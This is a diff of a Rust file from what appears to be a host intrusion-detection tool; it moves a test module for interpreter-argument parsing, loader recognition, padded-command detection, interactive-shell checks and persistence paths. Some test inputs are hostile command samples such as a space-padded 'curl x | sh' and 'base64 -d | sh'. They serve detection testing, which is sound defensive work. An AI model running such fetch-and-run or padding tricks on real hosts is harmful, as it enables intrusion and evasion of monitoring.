@@ -2444,180 +2444,6 @@ fn core_pattern_handler(
     ))
 }
 
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    fn argv(a: &[&str]) -> Vec<String> {
-        a.iter().map(|s| (*s).to_owned()).collect()
-    }
-
-    #[test]
-    fn script_operands_follow_each_interpreter_grammar() {
-        let set = super::super::RuleSet::builtin().unwrap();
-        let b = set.behaviour();
-        let op = |name: &str, a: &[&str]| script_operand(b, name, &argv(a)).map(str::to_owned);
-        assert_eq!(
-            op("sh", &["sh", "/dev/shm/x.sh"]).as_deref(),
-            Some("/dev/shm/x.sh")
-        );
-        assert_eq!(
-            op("bash", &["bash", "-x", "-o", "pipefail", "x.sh", "a"]).as_deref(),
-            Some("x.sh")
-        );
-        assert_eq!(op("bash", &["bash", "-c", "/tmp/x"]), None);
-        assert_eq!(op("bash", &["bash", "-lc", "/tmp/x"]), None);
-        assert_eq!(op("sh", &["sh", "-s", "--", "a"]), None);
-        assert_eq!(
-            op("python", &["python3", "-u", "/tmp/x.py"]).as_deref(),
-            Some("/tmp/x.py")
-        );
-        assert_eq!(op("python", &["python3", "-m", "http.server"]), None);
-        assert_eq!(
-            op("python", &["python3", "-W", "ignore", "/tmp/x.py"]).as_deref(),
-            Some("/tmp/x.py")
-        );
-        assert_eq!(op("perl", &["perl", "-e", "print 1"]), None);
-        assert_eq!(
-            op("perl", &["perl", "-w", "/tmp/x.pl"]).as_deref(),
-            Some("/tmp/x.pl")
-        );
-        assert_eq!(op("node", &["node", "--eval", "1"]), None);
-        // Inline programs that load a file as code: that file.
-        assert_eq!(
-            op("python", &["python3", "-c", "exec(open('x.py').read())"]).as_deref(),
-            Some("x.py")
-        );
-        assert_eq!(
-            op(
-                "python",
-                &[
-                    "python3",
-                    "-c",
-                    "import runpy; runpy.run_path(\"/dev/shm/y.py\")"
-                ]
-            )
-            .as_deref(),
-            Some("/dev/shm/y.py")
-        );
-        assert_eq!(
-            op("ruby", &["ruby", "-e", "load '/tmp/x.rb'"]).as_deref(),
-            Some("/tmp/x.rb")
-        );
-        assert_eq!(
-            op("node", &["node", "-e", "require('/tmp/x.js')"]).as_deref(),
-            Some("/tmp/x.js")
-        );
-        assert_eq!(
-            op("php", &["php", "-r", "include 'x.php';"]).as_deref(),
-            Some("x.php")
-        );
-        // Data and modules by name: nothing.
-        assert_eq!(
-            op(
-                "python",
-                &["python3", "-c", "import json; json.load(open('x.json'))"]
-            ),
-            None
-        );
-        assert_eq!(op("node", &["node", "-e", "require('fs')"]), None);
-        assert_eq!(op("ruby", &["ruby", "-e", "require 'json'"]), None);
-        assert_eq!(program_name("python3.11"), "python");
-        assert_eq!(program_name("perl5.36.0"), "perl");
-    }
-
-    #[test]
-    fn loaders_by_name_and_directory() {
-        for name in [
-            "ld-linux-x86-64.so.2",
-            "ld-linux.so.2",
-            "ld-musl-x86_64.so.1",
-            "ld64.so.2",
-            "ld.so",
-            "ld.so.1",
-        ] {
-            assert!(is_loader_name(name), "{name}");
-        }
-        for name in [
-            "ld.so.preload",
-            "ld.so.conf",
-            "ld.so.cache",
-            "ldd",
-            "libld.so",
-            "ld",
-        ] {
-            assert!(!is_loader_name(name), "{name}");
-        }
-        assert!(is_loader("/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2"));
-        assert!(is_loader("/lib64/ld-linux-x86-64.so.2"));
-        assert!(!is_loader("/usr/lib/../../tmp/ld-linux-x86-64.so.2"));
-        assert!(!is_loader("/srv/build/ld-linux-x86-64.so.2"));
-        assert!(!is_loader("/etc/ld.so.preload"));
-    }
-
-    #[test]
-    fn padding_is_a_long_run_of_one_character() {
-        let padded = argv(&["/bin/sh", "-c", &" ".repeat(600), "; curl x | sh"]);
-        assert_eq!(longest_run(&padded), (602, b' '));
-        let empties: Vec<String> = std::iter::once("prog".to_owned())
-            .chain(std::iter::repeat_n(String::new(), 700))
-            .collect();
-        assert_eq!(longest_run(&empties).0, 700);
-        let distinct: Vec<String> = (0..400).map(|i| format!("--opt-{i:04}")).collect();
-        assert!(longest_run(&distinct).0 < PADDING_RUN);
-        assert_eq!(
-            collapse_runs(&argv(&["a", &"x".repeat(40)])),
-            ["a", "xxxxxxxxxxxxxxxx[... 24 more]"]
-        );
-    }
-
-    #[test]
-    fn interactive_means_no_command_and_no_script() {
-        let set = super::super::RuleSet::builtin().unwrap();
-        let b = set.behaviour();
-        let i = |a: &[&str]| interactive(b, "bash", &argv(a), Some("device"));
-        assert!(i(&["/bin/sh"]));
-        assert!(i(&["bash", "-i"]));
-        assert!(i(&["bash", "-li"]));
-        assert!(i(&["bash", "--login"]));
-        assert!(i(&["bash", "--init-file", "/x/integration.sh"]));
-        assert!(
-            i(&["sh", "-is"]),
-            "-i with -s: interactive on standard input"
-        );
-        assert!(!i(&["sh", "-c", "true"]));
-        assert!(!i(&["bash", "-ic", "true"]));
-        assert!(!i(&["sh", "-s"]));
-        assert!(!i(&["sh", "/tmp/x.sh"]));
-        // Commands from a pipe or a file: `base64 -d | sh`, `sh < x.sh`; `-i` still says so.
-        let from = |a: &[&str], stdin| interactive(b, "sh", &argv(a), stdin);
-        assert!(!from(&["sh"], Some("pipe")));
-        assert!(!from(&["sh"], Some("file")));
-        assert!(from(&["sh", "-i"], Some("pipe")));
-        assert!(from(&["sh"], Some("socket")));
-        assert!(from(&["sh"], None));
-    }
-
-    #[test]
-    fn home_places_match_any_home_and_only_files_inside() {
-        use super::super::behaviour::Place;
-        let p = Place::Home(".config/systemd/user/".into());
-        assert!(p.contains("/root/.config/systemd/user/x.service"));
-        assert!(p.contains("/home/ann/.config/systemd/user/default.target.wants/x.service"));
-        assert!(!p.contains("/root/.config/systemd/user/"));
-        assert!(!p.contains("/root/x.config/systemd/user/a"));
-        // A file name: that file in any directory, not a longer name ending with it.
-        let p = Place::Home(".bashrc".into());
-        assert!(p.contains("/root/.bashrc") && p.contains("/home/ann/.bashrc"));
-        assert!(!p.contains("/root/x.bashrc") && !p.contains("/.bashrc") && !p.contains(".bashrc"));
-        assert!(!p.contains("/root/.bashrc.swp"));
-        let p = Place::Path("/etc/cron.d/".into());
-        assert!(p.contains("/etc/cron.d/job") && !p.contains("/etc/cron.daily/job"));
-        let p = Place::Path("/etc/crontab".into());
-        assert!(p.contains("/etc/crontab") && !p.contains("/etc/crontab2"));
-    }
-}
-
 /// Whether a process is a package manager or runs under one (its maintainer scripts and their
 /// children): what it writes is installation.
 pub(super) fn installing(
@@ -2797,4 +2623,178 @@ fn git_command_set(
 /// place).
 fn text_of_git_config(f: &FileInfo) -> Option<String> {
     text(made_path(f, &[])).filter(|p| is_git_config(Path::new(p)))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn argv(a: &[&str]) -> Vec<String> {
+        a.iter().map(|s| (*s).to_owned()).collect()
+    }
+
+    #[test]
+    fn script_operands_follow_each_interpreter_grammar() {
+        let set = super::super::RuleSet::builtin().unwrap();
+        let b = set.behaviour();
+        let op = |name: &str, a: &[&str]| script_operand(b, name, &argv(a)).map(str::to_owned);
+        assert_eq!(
+            op("sh", &["sh", "/dev/shm/x.sh"]).as_deref(),
+            Some("/dev/shm/x.sh")
+        );
+        assert_eq!(
+            op("bash", &["bash", "-x", "-o", "pipefail", "x.sh", "a"]).as_deref(),
+            Some("x.sh")
+        );
+        assert_eq!(op("bash", &["bash", "-c", "/tmp/x"]), None);
+        assert_eq!(op("bash", &["bash", "-lc", "/tmp/x"]), None);
+        assert_eq!(op("sh", &["sh", "-s", "--", "a"]), None);
+        assert_eq!(
+            op("python", &["python3", "-u", "/tmp/x.py"]).as_deref(),
+            Some("/tmp/x.py")
+        );
+        assert_eq!(op("python", &["python3", "-m", "http.server"]), None);
+        assert_eq!(
+            op("python", &["python3", "-W", "ignore", "/tmp/x.py"]).as_deref(),
+            Some("/tmp/x.py")
+        );
+        assert_eq!(op("perl", &["perl", "-e", "print 1"]), None);
+        assert_eq!(
+            op("perl", &["perl", "-w", "/tmp/x.pl"]).as_deref(),
+            Some("/tmp/x.pl")
+        );
+        assert_eq!(op("node", &["node", "--eval", "1"]), None);
+        // Inline programs that load a file as code: that file.
+        assert_eq!(
+            op("python", &["python3", "-c", "exec(open('x.py').read())"]).as_deref(),
+            Some("x.py")
+        );
+        assert_eq!(
+            op(
+                "python",
+                &[
+                    "python3",
+                    "-c",
+                    "import runpy; runpy.run_path(\"/dev/shm/y.py\")"
+                ]
+            )
+            .as_deref(),
+            Some("/dev/shm/y.py")
+        );
+        assert_eq!(
+            op("ruby", &["ruby", "-e", "load '/tmp/x.rb'"]).as_deref(),
+            Some("/tmp/x.rb")
+        );
+        assert_eq!(
+            op("node", &["node", "-e", "require('/tmp/x.js')"]).as_deref(),
+            Some("/tmp/x.js")
+        );
+        assert_eq!(
+            op("php", &["php", "-r", "include 'x.php';"]).as_deref(),
+            Some("x.php")
+        );
+        // Data and modules by name: nothing.
+        assert_eq!(
+            op(
+                "python",
+                &["python3", "-c", "import json; json.load(open('x.json'))"]
+            ),
+            None
+        );
+        assert_eq!(op("node", &["node", "-e", "require('fs')"]), None);
+        assert_eq!(op("ruby", &["ruby", "-e", "require 'json'"]), None);
+        assert_eq!(program_name("python3.11"), "python");
+        assert_eq!(program_name("perl5.36.0"), "perl");
+    }
+
+    #[test]
+    fn loaders_by_name_and_directory() {
+        for name in [
+            "ld-linux-x86-64.so.2",
+            "ld-linux.so.2",
+            "ld-musl-x86_64.so.1",
+            "ld64.so.2",
+            "ld.so",
+            "ld.so.1",
+        ] {
+            assert!(is_loader_name(name), "{name}");
+        }
+        for name in [
+            "ld.so.preload",
+            "ld.so.conf",
+            "ld.so.cache",
+            "ldd",
+            "libld.so",
+            "ld",
+        ] {
+            assert!(!is_loader_name(name), "{name}");
+        }
+        assert!(is_loader("/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2"));
+        assert!(is_loader("/lib64/ld-linux-x86-64.so.2"));
+        assert!(!is_loader("/usr/lib/../../tmp/ld-linux-x86-64.so.2"));
+        assert!(!is_loader("/srv/build/ld-linux-x86-64.so.2"));
+        assert!(!is_loader("/etc/ld.so.preload"));
+    }
+
+    #[test]
+    fn padding_is_a_long_run_of_one_character() {
+        let padded = argv(&["/bin/sh", "-c", &" ".repeat(600), "; curl x | sh"]);
+        assert_eq!(longest_run(&padded), (602, b' '));
+        let empties: Vec<String> = std::iter::once("prog".to_owned())
+            .chain(std::iter::repeat_n(String::new(), 700))
+            .collect();
+        assert_eq!(longest_run(&empties).0, 700);
+        let distinct: Vec<String> = (0..400).map(|i| format!("--opt-{i:04}")).collect();
+        assert!(longest_run(&distinct).0 < PADDING_RUN);
+        assert_eq!(
+            collapse_runs(&argv(&["a", &"x".repeat(40)])),
+            ["a", "xxxxxxxxxxxxxxxx[... 24 more]"]
+        );
+    }
+
+    #[test]
+    fn interactive_means_no_command_and_no_script() {
+        let set = super::super::RuleSet::builtin().unwrap();
+        let b = set.behaviour();
+        let i = |a: &[&str]| interactive(b, "bash", &argv(a), Some("device"));
+        assert!(i(&["/bin/sh"]));
+        assert!(i(&["bash", "-i"]));
+        assert!(i(&["bash", "-li"]));
+        assert!(i(&["bash", "--login"]));
+        assert!(i(&["bash", "--init-file", "/x/integration.sh"]));
+        assert!(
+            i(&["sh", "-is"]),
+            "-i with -s: interactive on standard input"
+        );
+        assert!(!i(&["sh", "-c", "true"]));
+        assert!(!i(&["bash", "-ic", "true"]));
+        assert!(!i(&["sh", "-s"]));
+        assert!(!i(&["sh", "/tmp/x.sh"]));
+        // Commands from a pipe or a file: `base64 -d | sh`, `sh < x.sh`; `-i` still says so.
+        let from = |a: &[&str], stdin| interactive(b, "sh", &argv(a), stdin);
+        assert!(!from(&["sh"], Some("pipe")));
+        assert!(!from(&["sh"], Some("file")));
+        assert!(from(&["sh", "-i"], Some("pipe")));
+        assert!(from(&["sh"], Some("socket")));
+        assert!(from(&["sh"], None));
+    }
+
+    #[test]
+    fn home_places_match_any_home_and_only_files_inside() {
+        use super::super::behaviour::Place;
+        let p = Place::Home(".config/systemd/user/".into());
+        assert!(p.contains("/root/.config/systemd/user/x.service"));
+        assert!(p.contains("/home/ann/.config/systemd/user/default.target.wants/x.service"));
+        assert!(!p.contains("/root/.config/systemd/user/"));
+        assert!(!p.contains("/root/x.config/systemd/user/a"));
+        // A file name: that file in any directory, not a longer name ending with it.
+        let p = Place::Home(".bashrc".into());
+        assert!(p.contains("/root/.bashrc") && p.contains("/home/ann/.bashrc"));
+        assert!(!p.contains("/root/x.bashrc") && !p.contains("/.bashrc") && !p.contains(".bashrc"));
+        assert!(!p.contains("/root/.bashrc.swp"));
+        let p = Place::Path("/etc/cron.d/".into());
+        assert!(p.contains("/etc/cron.d/job") && !p.contains("/etc/cron.daily/job"));
+        let p = Place::Path("/etc/crontab".into());
+        assert!(p.contains("/etc/crontab") && !p.contains("/etc/crontab2"));
+    }
 }
